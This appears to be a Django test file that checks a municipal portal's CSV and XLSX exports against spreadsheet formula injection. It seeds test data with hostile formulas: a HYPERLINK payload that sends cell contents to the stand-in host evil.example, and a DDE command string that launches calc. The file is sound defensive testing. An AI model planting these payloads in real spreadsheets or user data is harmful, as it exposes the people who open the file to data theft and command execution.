"""Every export writes user text as text: a formula typed into a name or a description stays inert.

OWASP's CSV-injection guidance: a cell starting with = + - @ tab or CR is a formula to Excel and
LibreOffice; the shared writer (guilin_portal.exports) prefixes it with a quote.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.db.models import Value
from django.db.models.functions import Concat
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from dashboards.api import views as stats_views
from dashboards.tables import PAGE_TABLES
from grids.models import GridUnit, User
from guilin_portal.exports import FORMULA_LEADS, csv_lines, csv_writer, safe_cell, safe_row
from issues.models import Issue

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"x")'
LEADS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+A1", "@SUM(A1)", "\tx", "\rx", "＝1", "=cmd|' /C calc'!A0"])
def test_formula_leading_text_is_written_as_text(text):
    assert safe_cell(text) == "'" + text
    buffer = io.StringIO()
    csv_writer(buffer).writerow([text, 5, -3])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + text, "5", "-3"]
    assert next(csv.reader(io.StringIO("".join(csv_lines([[text]]))))) == ["'" + text]


def test_numbers_and_plain_text_are_left_alone():
    assert safe_row([-4, 2.5, None, "张三", "a=b"]) == [-4, 2.5, None, "张三", "a=b"]


def cells_of(response) -> list[str]:
    """Every cell of a CSV or XLSX answer, as text."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if content[:2] == b"PK":
        book = load_workbook(io.BytesIO(content))  # not read-only: formulas stay formulas (data_type "f")
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"a live formula in {cell.coordinate}: {cell.value!r}"
                    if cell.value is not None:
                        cells.append(str(cell.value))
        return cells
    text = content.decode("utf-8-sig")
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def assert_inert(response, *, expect_payload: bool = True) -> None:
    assert response.status_code == 200, response.content[:300]
    cells = cells_of(response)
    live = [cell for cell in cells if cell.startswith(LEADS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
    assert not live, f"cells a spreadsheet would run as formulas: {live[:5]}"
    if expect_payload:
        assert any(cell.startswith("'=HYPERLINK") for cell in cells), "the typed formula is in the export, as text"


@pytest.fixture
def poisoned(db):
    """秀峰区's units, and its issues' descriptions and residents' names, start with a formula."""
    xiufeng = GridUnit.objects.get(level=GridUnit.Level.DISTRICT, name="秀峰区")
    GridUnit.objects.filter(path__startswith=xiufeng.path).exclude(pk=xiufeng.pk).update(
        name=Concat(Value(PAYLOAD), "name")
    )
    Issue.objects.filter(unit__path__startswith=xiufeng.path).update(
        description=Concat(Value(PAYLOAD), "description"), resident_name=Value("@SUM(1+1)*cmd")
    )
    client = Client()
    client.force_login(User.objects.get(username="admin"))
    return xiufeng, client


def test_the_issue_list_export(poisoned):
    _xiufeng, client = poisoned
    assert_inert(client.get(reverse("issues:issue_export")))


def test_the_dashboard_issue_export_streamed(poisoned):
    xiufeng, client = poisoned
    assert_inert(client.get(reverse("dashboards:issues_export", args=[xiufeng.pk])))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("name", PAGE_TABLES)
def test_every_dashboard_table(poisoned, name, fmt):
    xiufeng, client = poisoned
    response = client.get(reverse("dashboards:table_export", args=[xiufeng.pk, name, fmt]))
    assert response.status_code == 200, f"{name} should export for a district"
    assert_inert(response, expect_payload=False)


STATS_VIEWS = [
    (f"stats_{(view.endpoint or 'overview').replace('-', '_')}", group)
    for view in vars(stats_views).values()
    if isinstance(view, type) and issubclass(view, stats_views.StatsView) and view is not stats_views.StatsView
    for group in (None, *view.groups)
]


@pytest.mark.parametrize(("url_name", "group"), STATS_VIEWS)
def test_every_statistics_csv(poisoned, url_name, group):
    xiufeng, client = poisoned
    query = {"unit": xiufeng.pk, "format": "csv"} | ({"group_by": group} if group else {})
    assert_inert(client.get(reverse(url_name), query), expect_payload=False)


def test_the_child_unit_tables_carry_the_payload(poisoned):
    """At least the tables by child unit show the poisoned names (so the checks above saw them)."""
    xiufeng, client = poisoned
    response = client.get(reverse("stats_issues"), {"unit": xiufeng.pk, "format": "csv", "group_by": "child"})
    assert_inert(response)


# Modules that write spreadsheets must write them through the shared writer.
APPS = (
    "guilin_portal",
    "grids",
    "issues",
    "volunteers",
    "service_centers",
    "contracts",
    "dashboards",
    "open311",
    "audit",
    "people",
    "imports",
    "workbench",
    "command_centre",
)
# CSV that no person opens: the demo seed's COPY input to PostgreSQL (guilin_portal.demo.copy_rows).
NOT_SPREADSHEETS = {"guilin_portal/demo.py"}


def test_every_export_goes_through_the_shared_writer():
    root = Path(settings.BASE_DIR)
    offenders = []
    for app in APPS:
        for path in (root / app).rglob("*.py"):
            if "migrations" in path.parts or path.name == "exports.py" and app == "guilin_portal":
                continue
            source = path.read_text(encoding="utf-8")
            writes_csv = re.search(r"\bcsv\.(writer|DictWriter)\(", source)
            writes_xlsx = re.search(r"\bWorkbook\(|\.append\(|XlsxStream\(", source) and "openpyxl" in source
            relative = str(path.relative_to(root))
            if relative in NOT_SPREADSHEETS:
                continue
            if writes_csv or (writes_xlsx and "guilin_portal.exports" not in source):
                offenders.append(relative)
    assert not offenders, f"spreadsheets written without guilin_portal.exports (formula injection): {offenders}"
    assert FORMULA_LEADS[:6] == LEADS
